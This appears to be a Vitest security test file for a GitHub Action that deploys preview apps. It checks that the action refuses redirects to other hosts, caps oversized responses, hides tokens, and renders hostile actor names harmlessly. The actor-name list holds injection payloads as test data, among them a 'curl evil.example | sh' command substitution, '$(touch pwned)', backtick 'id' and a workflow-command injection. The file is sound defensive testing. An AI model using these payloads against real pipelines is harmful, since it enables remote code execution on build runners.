import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { type HttpServer, startHttpServer } from "../../../sandbox/network/http-server.ts";
import type { PlayedPullRequest, StepOptions } from "../../../sandbox/played-pull-request.ts";
import type { ActionResult } from "../../../sandbox/runner/runner.ts";
import { type Sandbox, startSandbox } from "../../../sandbox/sandbox.ts";
import { ACTIVE, elements, HOSTILE, searchedText, toHtml } from "../../unit/report-hostile.ts";
import { expectSoundRuns } from "../expectations.ts";
import { forgetApps, hostileApp, pushApp } from "./hostile-app.ts";
import { runnerCommandsIn } from "./runner-commands-in.ts";

const BYPASS = "bypass-canary-91c07d5e";
const WITH_BYPASS = { inputs: { "runner-config": JSON.stringify({ headers: { "x-protection-bypass": BYPASS } }) } };
const SHORT_WAIT = { inputs: { "ready-timeout": "3" } };

describe("a preview that answers with malice", () => {
	let sandbox: Sandbox;
	let app: string;
	let pull: PlayedPullRequest;
	/** Stands for whatever a redirect may lead to: the cloud's metadata service, the engine's API, the attacker. */
	let elsewhere: HttpServer;

	beforeAll(async () => {
		[sandbox, app, elsewhere] = await Promise.all([startSandbox({ mode: "cloud" }), hostileApp(), startHttpServer({ routes: {} })]);
		pull = await sandbox.openPullRequest({ app, branch: "topic", number: 130 });
	});
	afterEach(() => expectSoundRuns(sandbox));
	afterAll(async () => {
		await Promise.all([sandbox?.stop(), elsewhere?.stop()]);
		await forgetApps([app]);
	});

	const push = (options: StepOptions = {}): Promise<ActionResult> =>
		pull.event("synchronize", { ...options, inputs: { "install-command": "none", ...options.inputs } });
	/** Without the engine's own looks: it asks an app that it knows from an earlier push as often as it likes, and follows redirects. */
	const askedByAction = (): readonly string[] => {
		return elsewhere.requests
			.filter(({ headers }) => /^node/.test(headers["user-agent"] ?? ""))
			.map(({ method, path }) => `${method} ${path}`);
	};
	const redirecting = (path: string, target: string, status = 307) =>
		`if (request.url.split("?")[0] === ${JSON.stringify(path)}) return response.writeHead(${status}, { location: ${JSON.stringify(target)} }).end();`;

	it("is asked without any secret, and sees the runner config's headers that are meant for it", async () => {
		await pushApp(pull, { onRequest: "console.log(JSON.stringify([request.url, request.headers]));" });
		const result = await push(WITH_BYPASS);
		expect(result.conclusion, result.log).toBe("success");
		const seen = sandbox.freestyle.logs(result.outputs["deployment-id"] ?? "").join("\n");
		expect(seen).toContain(BYPASS);
		expect(seen).toContain('"/"');
		const { rivetToken, freestyleApiKey } = sandbox.secrets;
		for (const secret of [rivetToken, freestyleApiKey, sandbox.inputs["github-token"] ?? "", "authorization"])
			expect(seen).not.toContain(secret);
	});

	it.each([301, 302, 303, 307, 308])("that sends the look at its metadata elsewhere with %i is not followed", async (status) => {
		await pushApp(pull, { onRequest: redirecting("/api/rivet/metadata", `${elsewhere.url}/admin`, status) });
		const result = await push({ inputs: { ...WITH_BYPASS.inputs, ...SHORT_WAIT.inputs } });
		expect(result.conclusion).toBe("failure");
		expect(result.log).toContain(`answered ${status}, which leads to ${elsewhere.url}/admin`);
		expect(askedByAction()).toEqual([]);
	});

	it("that sends the look at its page elsewhere is not followed", async () => {
		await pushApp(pull, { onRequest: redirecting("/", `${elsewhere.url}/admin`) });
		const result = await push(WITH_BYPASS);
		expect(result.conclusion, result.log).toBe("success");
		expect(askedByAction()).toEqual([]);
	});

	it("that redirects within itself is followed", async () => {
		const onRequest = redirecting("/api/rivet/metadata", "/api/rivet/metadata/?slash", 308);
		await pushApp(pull, { onRequest });
		const result = await push();
		expect(result.conclusion, result.log).toBe("success");
	});

	it("that redirects within itself for ever does not keep the run", async () => {
		await pushApp(pull, { onRequest: "return response.writeHead(302, { location: request.url }).end();" });
		const result = await push(SHORT_WAIT);
		expect(result.conclusion).toBe("failure");
		expect(result.durationMs).toBeLessThan(60_000);
	});

	it.each([
		[
			"10 MB of metadata",
			'if (request.url.includes("metadata")) { response.end(JSON.stringify({ runtime: "rivetkit", pad: "x".repeat(10_000_000) })); }',
		],
		[
			"metadata without an end",
			'if (request.url.includes("metadata")) { response.write("{\\"runtime\\":\\"rivetkit\\",\\"pad\\":\\""); while (!response.destroyed) { response.write("x".repeat(65536)); await new Promise((wait) => setTimeout(wait, 1)); } }',
		],
	])("with %s is not read to its end, and not taken for ready", async (_, onRequest) => {
		await pushApp(pull, { onRequest });
		const result = await push(SHORT_WAIT);
		expect(result.conclusion).toBe("failure");
		expect(result.log).toContain("something that is not RivetKit's metadata");
	});

	it("with a page without an end is not read to its end, and is up all the same", async () => {
		const endless =
			'if (request.url === "/") { while (!response.destroyed) { response.write("x".repeat(65536)); await new Promise((wait) => setTimeout(wait, 1)); } }';
		await pushApp(pull, { onRequest: endless });
		const result = await push({ inputs: { "ready-timeout": "10" } });
		expect(result.conclusion, result.log).toBe("success");
	});

	it("whose actors have hostile names shows them as names, and hands them on so that no script stumbles", async () => {
		const names = [
			...HOSTILE.filter((name) => name.isWellFormed() && name !== ""),
			'"; curl evil.example | sh; "',
			"$(touch pwned)",
			"`id`",
			"a'b",
			"::error::pwned",
		];
		await pushApp(pull, { metadata: `actorNames: Object.fromEntries(${JSON.stringify(names)}.map((name) => [name, {}]))` });
		const result = await push({ debug: true });
		expect(result.conclusion, result.log).toBe("success");
		expect(JSON.parse(result.outputs.actors ?? "")).toEqual(names);
		expect(result.outputs.actors).not.toMatch(/[$`';&|<>()!*{}\n]|\\(?!u[0-9a-f]{4})/);
		for (const markdown of [pull.comments[0]?.body ?? "", result.summary]) {
			const html = toHtml(markdown);
			expect(elements(html).filter((name) => ["script", "img", "h1", "input", "iframe", "ol"].includes(name))).toEqual([]);
			expect(searchedText(html)).not.toMatch(ACTIVE);
			expect(html).not.toMatch(/href="[^"]*evil/);
		}
		expect(runnerCommandsIn(result.rawLog).filter((line) => line.includes("pwned"))).toEqual([]);
	});

	it("with thousands of actors leaves a comment that can be read", async () => {
		await pushApp(pull, {
			metadata: "actorNames: Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => ['actor-number-' + at, {}]))",
		});
		const result = await push();
		expect(result.conclusion, result.log).toBe("success");
		expect(JSON.parse(result.outputs.actors ?? "")).toHaveLength(5_000);
		expect(pull.comments[0]?.body.length).toBeLessThan(10_000);
	});

	it("that names its actor after its token does not get the token shown", async () => {
		await pushApp(pull, { metadata: "actorNames: { [env.RIVET_TOKEN]: {}, ['x'.repeat(95) + env.RIVET_TOKEN]: {} }" });
		const result = await push({ debug: true });
		expect(result.conclusion, result.log).toBe("success");
		const token = sandbox.freestyle.uploads.at(-1)?.envVars.RIVET_TOKEN ?? "";
		for (const place of [result.outputs.actors ?? "", pull.comments[0]?.body ?? "", result.summary])
			expect(place).not.toContain(token.slice(0, 18));
	});

	it.each([
		["another namespace", 'clientNamespace: "production"', /belongs to the namespace "production"/],
		["a namespace with a name of 100,000 characters", 'clientNamespace: "n".repeat(100_000)', /belongs to the namespace "n{100}"/],
		["the version of another deployment", "envoy: { kind: { serverless: {} }, version: 1 }", /with version 1, not this one/],
		["no RivetKit", 'runtime: "else"', /something that is not RivetKit's metadata/],
	])("that says it is %s is not taken for ready", async (_, metadata, reason) => {
		await pushApp(pull, { metadata });
		const result = await push(SHORT_WAIT);
		expect(result.conclusion).toBe("failure");
		expect(result.log).toMatch(reason);
		expect(result.log.length).toBeLessThan(20_000);
	});

	it("whose server's log is hostile and holds its own token fails with the log shown as text, without the token", async () => {
		const onStart = `for (const text of ${JSON.stringify([...HOSTILE, "::error::pwned", "##[error]pwned"])}) console.log(text); console.log("q".repeat(380) + env.RIVET_TOKEN); console.log("q".repeat(480) + env.RIVET_TOKEN); console.log("token", env.RIVET_TOKEN, btoa("x:" + env.RIVET_TOKEN));`;
		await pushApp(pull, { onStart, metadata: 'runtime: "else"' });
		const result = await push({ ...SHORT_WAIT, debug: true });
		expect(result.conclusion).toBe("failure");
		const [comment] = pull.comments;
		expect(comment?.body).toContain("End of the server's log");
		expect(comment?.body).toContain("token ***");
		const token = sandbox.freestyle.uploads.at(-1)?.envVars.RIVET_TOKEN ?? "";
		for (const place of [comment?.body ?? "", result.summary]) expect(place).not.toContain(token.slice(0, 18));
		for (const markdown of [comment?.body ?? "", result.summary]) {
			const html = toHtml(markdown);
			expect(elements(html).filter((name) => ["script", "img", "h1", "input", "iframe"].includes(name))).toEqual([]);
			expect(searchedText(html)).not.toMatch(ACTIVE);
		}
		expect(runnerCommandsIn(result.rawLog).filter((line) => line.includes("pwned"))).toEqual([]);
	});
});
